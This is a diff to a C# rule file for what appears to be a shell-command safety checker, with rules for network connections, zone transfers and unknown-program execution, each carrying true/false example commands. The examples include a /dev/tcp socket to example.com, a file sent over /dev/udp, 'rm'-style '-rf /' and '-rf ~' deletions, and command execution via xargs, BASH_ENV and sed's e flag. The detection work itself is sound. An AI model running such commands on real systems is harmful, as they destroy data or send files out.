@@ -70,7 +70,7 @@ internal static class NetworkPacks
             True = "exec 3<>/dev/tcp/example.com/4444\ncat notes > /dev/udp/10.0.0.1/53",
             False = "echo > /dev/tcp/localhost/8080",
         },
-        new("network.zone-transfer", EffectKind.Connect, Verdict.Warn, "This asks a name server for a whole zone.")
+        new("network.zone-transfer", EffectKind.Connect, Verdict.Ask, "This asks a name server for a whole zone.")
         {
             Details = "zone-transfer",
             Suggest = "dig example.com",
@@ -139,10 +139,10 @@ internal static class NetworkPacks
         },
         new("remote-code.unknown-input", EffectKind.ExecuteUnknown, Verdict.Ask, "The arguments of a program that is not known would be destructive, or its words come from input that is not known.")
         {
-            Details = "program-with-dangerous-arguments code-from-input sql-program split-string",
+            Details = "program-with-dangerous-arguments code-from-input sql-program split-string startup-file",
             Suggest = "rm -rf ./build",
-            True = "$TOOL -rf /\n\"$CMD\" -rf ~",
-            False = "$TOOL --version",
+            True = "$TOOL -rf /\n\"$CMD\" -rf ~\nxargs -I{} sh -c {} < jobs.txt\nparallel < jobs.txt\nBASH_ENV=./other.sh bash -c true\nsed 's/x/& y/e' notes.txt",
+            False = "$TOOL --version\nxargs -n1 sh -c 'echo $0' < jobs.txt\nparallel gzip < names.txt\nBASH_ENV= bash -c true\nsed 's/x/y/' notes.txt",
         },
         new("remote-code.preload", EffectKind.ExecuteUnknown, Verdict.Ask, "A library of the command's choosing would be loaded into the program.")
         {
